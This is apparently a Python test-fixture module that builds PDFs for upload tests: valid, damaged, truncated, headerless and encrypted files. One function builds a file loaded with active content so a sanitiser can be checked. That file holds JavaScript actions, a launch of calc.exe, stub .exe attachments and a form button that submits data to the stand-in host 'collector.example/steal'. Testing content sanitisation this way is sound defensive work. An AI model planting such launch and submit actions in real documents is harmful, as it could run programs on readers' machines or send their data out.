"""PDF files for the tests of uploads and downloads: a valid one, the kinds of broken ones an
editor may upload (damaged, truncated, not a PDF, encrypted), and one full of active content."""

from __future__ import annotations

import functools
import io
from datetime import date

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from sites.demo.pdf import render_document_pdf

#: Text on the valid PDF's page, found again in served copies.
TITLE = "Penetration test summary"
SUMMARY = "No critical findings remain open"


@functools.cache
def valid_pdf() -> bytes:
    return render_document_pdf(TITLE, "2026", date(2026, 3, 1), SUMMARY, "First issue")


def damaged_pdf() -> bytes:
    """A PDF header and end marker around bytes that are no PDF objects at all."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 12 + b"\n%%EOF\n"


def truncated_pdf() -> bytes:
    """The first half of a valid PDF, as a failed transfer leaves it."""
    whole = valid_pdf()
    return whole[: len(whole) // 2]


def headerless_pdf() -> bytes:
    """Starts like a PDF (``%PDF``), so its type is recognised, but has no version header."""
    return b"%PDF\n" + b"not really a PDF at all\n" * 20


@functools.cache
def encrypted_pdf(user_password: str = "secret") -> bytes:
    """The valid PDF encrypted with pypdf (an empty ``user_password`` opens without asking, but
    is encrypted all the same)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(valid_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_name(f"/{key}"): value for key, value in entries.items()})


def _script(code: str) -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect(*values: float) -> ArrayObject:
    return ArrayObject(FloatObject(v) for v in values)


#: Markers of the active content ``active_pdf`` carries, none of which may survive.
SCRIPT_MARKERS = ("open-action-script", "document-script", "page-script", "field-script")


def active_pdf() -> bytes:
    """The valid PDF carrying every kind of active content a served copy must not keep: a
    JavaScript ``/OpenAction``, document and page ``/AA`` scripts, a ``/JavaScript`` name-tree
    script, a link that launches a program, an embedded file and a file attachment
    annotation, and an AcroForm whose buttons submit and import data, with an XFA form. It
    also has what must stay: a link to a web address and a link to its own page."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(valid_pdf())))
    writer.add_attachment("payload.exe", b"MZ embedded program")
    root = writer._root_object
    root[_name("/Names")][_name("/JavaScript")] = _dict(
        Names=ArrayObject([TextStringObject("init"), _script("app.alert('document-script')")])
    )
    root[_name("/OpenAction")] = _script("app.alert('open-action-script')")
    root[_name("/AA")] = _dict(WC=_script("app.alert('document-script on close')"))
    page = writer.pages[0]
    page[_name("/AA")] = _dict(O=_script("app.alert('page-script')"))

    def annotation(subtype: str, rect: ArrayObject, **entries):
        return writer._add_object(
            _dict(Type=_name("/Annot"), Subtype=_name(subtype), Rect=rect, **entries)
        )

    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ attached program")
    embedded[_name("/Type")] = _name("/EmbeddedFile")
    attachment_spec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("invoice.exe"),
        EF=_dict(F=writer._add_object(embedded)),
    )
    submit = _dict(S=_name("/SubmitForm"), F=TextStringObject("https://collector.example/steal"))
    import_data = _dict(S=_name("/ImportData"), F=TextStringObject("data.fdf"))
    buttons = [
        annotation(
            "/Widget",
            _rect(300, 700, 400, 720),
            FT=_name("/Btn"),
            Ff=NumberObject(65536),
            T=TextStringObject("send"),
            A=submit,
            AA=_dict(E=_script("app.alert('field-script')")),
        ),
        annotation(
            "/Widget",
            _rect(300, 670, 400, 690),
            FT=_name("/Btn"),
            Ff=NumberObject(65536),
            T=TextStringObject("load"),
            A=import_data,
        ),
    ]
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>field-script</script></xdp:xdp>")
    root[_name("/AcroForm")] = _dict(
        Fields=ArrayObject(buttons), XFA=writer._add_object(xfa), NeedsRendering=NumberObject(1)
    )
    page[_name("/Annots")] = ArrayObject(
        [
            annotation(
                "/Link",
                _rect(50, 50, 200, 70),
                A=_dict(S=_name("/Launch"), F=TextStringObject("calc.exe")),
            ),
            annotation(
                "/Link",
                _rect(50, 80, 200, 100),
                A=_dict(S=_name("/URI"), URI=TextStringObject("https://provider.example/")),
            ),
            annotation(
                "/Link",
                _rect(50, 110, 200, 130),
                A=_dict(
                    S=_name("/GoTo"),
                    D=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]),
                ),
            ),
            annotation("/FileAttachment", _rect(20, 20, 40, 40), FS=attachment_spec),
            *buttons,
        ]
    )
    return _written(writer)


def large_pdf(path, pages: int = 300, side: int = 120, seed: int = 3) -> None:
    """Write ``pages`` pages of text to ``path``, each with its own incompressible greyscale
    image of ``side`` x ``side`` pixels (about ``side**2`` bytes a page); every seventh page is
    landscape. 150 pages with ``side=365`` make about 20 MB."""
    import random

    from fpdf import FPDF
    from PIL import Image

    noise = random.Random(seed)
    pdf = FPDF(unit="pt")
    pdf.set_font("Helvetica", size=9)
    for number in range(pages):
        pdf.add_page(format="A4", orientation="L" if number % 7 == 3 else "P")
        for line in range(30):
            pdf.text(40, 60 + 12 * line, f"Page {number + 1}, control {line}: no exceptions.")
        pixels = noise.randbytes(side * side)
        pdf.image(Image.frombytes("L", (side, side), pixels), x=40, y=450, w=200)
    pdf.output(str(path))
